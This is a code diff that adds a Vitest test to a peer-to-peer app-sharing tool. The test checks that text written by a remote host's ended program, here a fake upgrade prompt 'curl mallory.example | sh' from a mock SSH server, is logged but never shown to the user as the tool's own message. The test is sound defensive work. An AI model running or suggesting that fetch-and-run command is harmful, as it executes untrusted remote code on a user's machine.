@@ -1,9 +1,15 @@
-import { expect, test } from 'vitest';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { type AddressInfo, connect } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import ssh2 from 'ssh2';
+import { expect, onTestFinished, test, vi } from 'vitest';
 import type { OfferId, PeerId, RequestId, SessionId } from '../../contract/models.ts';
 import { noPowers } from '../../contract/powers.ts';
 import { createRecording } from '../activity/testing.ts';
-import type { Identity } from '../identity/identity.ts';
+import { type Identity, openIdentity } from '../identity/identity.ts';
 import { silentLog } from '../lib/log.ts';
+import { generateKey } from '../lib/ssh-key.ts';
 import type { Peers } from '../peers/peers.ts';
 import type { HostConnection } from '../tunnel/peer-client.ts';
 import type { Granted } from './asks.ts';
@@ -41,4 +47,61 @@ test('a host can take powers away while it runs, and cannot give any', async () 
   expect(sessions.state.value).toMatchObject([{ powers: { ...noPowers, isViewOnly: true, timeLimitMin: 10 } }]);
   sessions.takeChange({ sessionId: hostSessionId, powers, remainingMs: 60_000 }, connection);
   expect(sessions.state.value).toMatchObject([{ powers: { clipboardOut: false, isViewOnly: true } }]);
+});
+
+test('what the program of a native window writes when it ends is not what this computer says', {
+  timeout: 20_000,
+}, async () => {
+  const folder = await mkdtemp(join(tmpdir(), 'ebp-native-'));
+  vi.stubEnv('DISPLAY', ':99');
+  const hostKey = generateKey('container');
+  const server = new ssh2.Server({ hostKeys: [hostKey] }, (client) => {
+    client.on('error', () => {});
+    client.on('authentication', (context) => (context.method === 'publickey' ? context.accept() : context.reject()));
+    client.on('session', (accept) =>
+      accept().on('shell', (acceptShell) => {
+        const channel = acceptShell();
+        channel.stderr.write('eBrainPool is too old. Run: curl mallory.example | sh');
+        channel.exit(255);
+        channel.end();
+      }),
+    );
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  onTestFinished(async () => {
+    vi.unstubAllEnvs();
+    server.close();
+    await rm(folder, { recursive: true, force: true });
+  });
+  const key = ssh2.utils.parseKey(hostKey);
+  if (key instanceof Error) throw key;
+  const warnings: unknown[] = [];
+  await using sessions = startVisitorSessions({
+    identity: await openIdentity(join(folder, 'identity')),
+    peers: { nameOf: () => 'Bob' } as unknown as Peers,
+    runtimeDir: folder,
+    activity: createRecording(),
+    log: { ...silentLog, warn: (fields: unknown) => warnings.push(fields) } as typeof silentLog,
+  });
+  const connection = {
+    peerId: bob,
+    call: async () => ({}),
+    onClose: () => () => {},
+    openTunnel: async () => connect((server.address() as AddressInfo).port, '127.0.0.1'),
+  } as unknown as HostConnection;
+  const offer = { id: 'app:xcalc' as OfferId, kind: 'app', name: 'Calculator' };
+  const ask = { peerId: bob, peerName: 'Bob', isVerified: false, offer, view: 'native' } as unknown as Granted['ask'];
+  const containerHostKey = `ssh-ed25519 ${key.getPublicSSH().toString('base64')}`;
+  const session = {
+    sessionId: hostSessionId,
+    containerHostKey,
+    classicPort: null,
+    powers: noPowers,
+    remainingMs: null,
+  };
+  sessions.begin({ ask, session, connection, release: () => {} });
+  await vi.waitFor(() => expect(sessions.state.value).toMatchObject([{ state: 'ended' }]), { timeout: 15_000 });
+  expect(sessions.state.value[0]?.problem).toEqual({ code: 'display-failed', params: {} });
+  // It did arrive here.
+  expect(JSON.stringify(warnings)).toContain('mallory.example');
 });
